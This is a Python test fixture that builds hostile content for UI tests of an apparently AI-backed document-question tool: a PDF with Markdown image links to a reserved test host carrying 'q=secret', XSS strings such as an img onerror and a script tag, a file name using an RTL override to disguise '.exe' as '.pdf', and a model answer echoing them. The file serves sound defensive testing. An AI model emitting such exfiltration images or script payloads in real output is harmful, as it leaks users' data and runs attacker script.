"""Hostile content for the UI tests: a PDF whose text is Markdown, HTML and links to an outside host,
file names that carry Markdown, an RTL override and zero-width characters, and a model answer that
echoes all of it. 203.0.113.7 is TEST-NET-3 (RFC 5737): nothing answers there, so a request to it is
always a leak, never a working page."""

from __future__ import annotations

from pathlib import Path

import pymupdf

HOST = "203.0.113.7"
SECRET_IMAGE = f"![x](http://{HOST}/?q=secret)"
LINK = f"[click here](http://{HOST}/login)"
IMG_TAG = "<img src=x onerror=alert(1)>"
SCRIPT_TAG = "<script>alert(2)</script>"
# the PDF's text, line by line; the first line starts the chunk, so it also starts the chunk's label
PDF_LINES = [
    f"{SECRET_IMAGE} Launch notes: {LINK}",
    f"{IMG_TAG} {SCRIPT_TAG} www.example.org",
    "The launch code is 4711 and the backup code is 9052.",
]
# Markdown image (https:HOST resolves to https://HOST/ in a browser), emphasis, an RTL override that
# makes "...exe.pdf" read as "...fdp.exe", and a zero-width space; accepted by ingest (no / .. < >)
HOSTILE_NAME = f"![n](https:{HOST}?q=name) **notes**\u202eexe\u200b.pdf"
SHOWN_NAME = f"![n](https:{HOST}?q=name) **notes**<U+202E>exe<U+200B>.pdf"
# refused by ingest (HTML characters); its error message quotes it
REJECTED_NAME = f"{IMG_TAG}\u202e.pdf"
SHOWN_REJECTED = f"{IMG_TAG}<U+202E>.pdf"
QUESTION = "What is the launch code?"
ANSWER = (f"The notes say {SECRET_IMAGE} and {LINK} {IMG_TAG} {SCRIPT_TAG} — the launch code is 4711 [1].\n\n"
          f"See [the form][1], <http://{HOST}/auto> or http://{HOST}/bare.\n\n[1]: http://{HOST}/ref")
# what a reader must see, literally, somewhere in the answer
ANSWER_LITERALS = [SECRET_IMAGE, LINK, IMG_TAG, SCRIPT_TAG, f"<http://{HOST}/auto>", f"[1]: http://{HOST}/ref"]


def make_hostile_pdf(directory: Path, name: str = HOSTILE_NAME) -> Path:
    """A one-page PDF with ``PDF_LINES`` as plain 11 pt text (no headings), saved as ``name``."""
    document = pymupdf.open()
    page = document.new_page()
    for number, line in enumerate(PDF_LINES):
        page.insert_text((72, 72 + 16 * number), line, fontsize=11)
    path = directory / name
    document.save(path)
    document.close()
    return path
